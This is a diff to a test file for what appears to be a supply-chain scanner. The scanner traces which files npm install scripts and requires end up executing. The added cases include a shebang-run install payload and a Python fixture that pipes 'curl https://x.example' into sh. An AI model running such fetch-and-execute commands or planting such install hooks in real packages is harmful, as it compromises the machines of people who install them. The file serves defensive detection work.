@@ -44,6 +44,9 @@ def subprocess_paths(files: dict[str, str]) -> list[str]:
           "lib/setup.txt": PAYLOAD}, ["lib/setup.txt"]),
         ({"package.json": '{"scripts": {"postinstall": "node --eval=\\"require(\'./setup.txt\')\\""}}',
           "setup.txt": PAYLOAD}, ["setup.txt"]),
+        # run by path: the kernel reads the node shebang whatever the extension
+        ({"package.json": '{"scripts": {"install": "./scripts/setup.dat"}}',
+          "scripts/setup.dat": "#!/usr/bin/env node\n" + PAYLOAD}, ["scripts/setup.dat"]),
         # through a bundled dependency: a bare name resolves in node_modules above the importer
         ({"index.js": 'require("dep");', "node_modules/dep/package.json": '{"main": "main.txt"}',
           "node_modules/dep/main.txt": PAYLOAD}, ["node_modules/dep/main.txt"]),
@@ -132,3 +135,11 @@ def test_pattern_exports_are_not_entry_points_but_own_requires_are_followed() ->
     assert subprocess_paths(files) == []
     files["index.js"] = 'require("./lib/a.dat");'
     assert subprocess_paths(files) == ["lib/a.dat"]
+
+
+def test_files_install_scripts_hand_to_python_are_analysed_as_python() -> None:
+    files = {"package.json": '{"scripts": {"postinstall": "python3 tools/setup.dat --quiet"}}',
+             "tools/setup.dat": "import os\nos.system('curl https://x.example | sh')\n"}  # fmt: skip
+    assert subprocess_paths(files) == ["tools/setup.dat"]
+    files["package.json"] = '{"scripts": {"postinstall": "python3 -c pass tools/setup.dat"}}'  # argv, not a script
+    assert subprocess_paths(files) == []
